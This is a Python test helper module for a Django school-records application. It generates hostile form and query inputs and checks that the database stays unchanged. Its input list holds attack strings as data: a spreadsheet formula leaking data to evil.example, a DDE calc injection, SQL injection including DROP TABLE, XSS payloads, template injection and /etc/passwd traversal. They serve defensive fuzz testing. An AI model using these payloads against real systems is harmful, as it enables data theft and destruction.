"""What an attacker types into a form or a query string, and how to tell that the product
answered it properly (issue #14, point 2): shared by the hostile-input tests.

* ``hostile_values(other_ids)``: a hypothesis strategy of one submitted value — wrong types,
  huge and negative numbers, 20-digit ids, NaN and infinities, empty and blank, 10,000
  characters, NUL and control characters, lone surrogates as raw UTF-8 bytes, RTL,
  zero-width and combining characters, emoji, formula-like, SQL and HTML text, extreme and
  malformed dates, and ``other_ids`` (another school's objects).
* ``fingerprint()``: the content of every table of the product in one query, so that "nothing
  changed" is checked on the whole database, not on a few counts.
* ``urlencoded(data)``: a form body as a browser sends it, bytes included (the test client
  would refuse to encode a lone surrogate).
"""

import datetime
import re
from urllib.parse import urlencode

from django.db import connection
from hypothesis import strategies as st

CYRILLIC = re.compile("[а-яё]", re.IGNORECASE)

# Tables whose rows a request may legitimately touch without changing anything of the
# product: the session (idle expiry, messages) and the sign-in throttling of django-axes.
UNWATCHED = re.compile(r"^(django_session|axes_)")
AUDIT_TABLE = "audit_auditentry"

# What a read of a child's data logs by design (audit.services.log_read and the exports).
READ_ACTIONS = re.compile(r"\.(viewed|downloaded|scan_downloaded|exported)$")

NUMBERS = [
    "9" * 20,
    "-1",
    "0",
    "-9223372036854775809",
    str(2**63),
    str(2**31),
    "1e308",
    "-1e308",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "1.5",
    "0x10",
    "1_000",
    " 7 ",
    "²",
    "٣",
    "１２",
]
DATES = [
    "9999-12-31",
    "0001-01-01",
    "1900-01-01",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "31.12.9999",
    "01.01.0001",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "2026-1-1",
    "2026-W05",
    "-2026-01-01",
    "20260101",
    "12/31/9999",
    "9999-12",
    "2026-00",
]
TEXTS = [
    "",
    " ",
    "\t\r\n",
    "x" * 10_000,
    "Щ" * 5_000,
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31m\x7f",
    "\u202eевонавИ\u202c",
    "\u200b\u200c\u200d\ufeff",
    "е\u0301" * 200,
    "👨‍👩‍👧‍👦🏳️‍🌈",
    "𝕴𝖛𝖆𝖓",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "' OR '1'='1' --",
    "1; DROP TABLE schools_student; --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}{% debug %}",
    "%s%n%x",
    "../../../../etc/passwd",
    "null",
    "[]",
    '{"a": 1}',
    "true",
]
# Lone surrogates and broken sequences as the raw bytes a hostile client can send: Django
# decodes them with replacement characters; nothing may fail on them.
RAW_BYTES = [b"\xed\xa0\x80", b"\xed\xbf\xbf\xed\xa0\x80", b"\xff\xfe", b"\xc3", b"a\xc0\xafb"]


def hostile_values(other_ids: list[str] = ()) -> st.SearchStrategy:
    """One value of a form field or query parameter (``str`` or raw ``bytes``)."""
    options = [
        st.sampled_from(NUMBERS),
        st.integers(min_value=-(10**25), max_value=10**25).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.sampled_from(DATES),
        st.dates().map(datetime.date.isoformat),
        st.from_regex(r"\A-?\d{1,6}-\d{1,3}(-\d{1,3})?\Z"),
        st.sampled_from(TEXTS),
        st.text(max_size=50),
        st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Mn", "So"])),
        st.sampled_from(RAW_BYTES),
    ]
    if other_ids:
        options.append(st.sampled_from(list(other_ids)))
    return st.one_of(options)


def urlencoded(data: dict) -> bytes:
    """``data`` (a value, ``bytes`` or a list of them per name) as a form body."""
    pairs = []
    for name, value in data.items():
        for one in value if isinstance(value, list) else [value]:
            pairs.append((name, one))
    return urlencode(pairs).encode("ascii")


def product_tables() -> list[str]:
    with connection.cursor() as cursor:
        names = connection.introspection.table_names(cursor)
    return sorted(name for name in names if not UNWATCHED.match(name))


def fingerprint(tables: list[str], school_id: int | None = None) -> dict[str, str]:
    """An MD5 of every row of each table (one query); with ``school_id``, of the tables with
    a ``school_id`` column only, restricted to that school's rows."""
    if school_id is not None:
        tables = [table for table in tables if "school_id" in _columns(table)]
    parts = []
    for table in tables:
        where = f" WHERE t.school_id = {int(school_id)}" if school_id is not None else ""
        parts.append(
            f"SELECT '{table}', md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), ''))"
            f' FROM "{table}" t{where}'
        )
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(parts))
        return dict(cursor.fetchall())


_COLUMNS: dict[str, set[str]] = {}


def _columns(table: str) -> set[str]:
    if table not in _COLUMNS:
        with connection.cursor() as cursor:
            _COLUMNS[table] = {
                column.name
                for column in connection.introspection.get_table_description(cursor, table)
            }
    return _COLUMNS[table]


def last_audit_id() -> int:
    with connection.cursor() as cursor:
        cursor.execute(f'SELECT coalesce(max(id), 0) FROM "{AUDIT_TABLE}"')
        return cursor.fetchone()[0]


def audit_actions_since(last_id: int) -> list[str]:
    with connection.cursor() as cursor:
        cursor.execute(f'SELECT action FROM "{AUDIT_TABLE}" WHERE id > %s ORDER BY id', [last_id])
        return [row[0] for row in cursor.fetchall()]
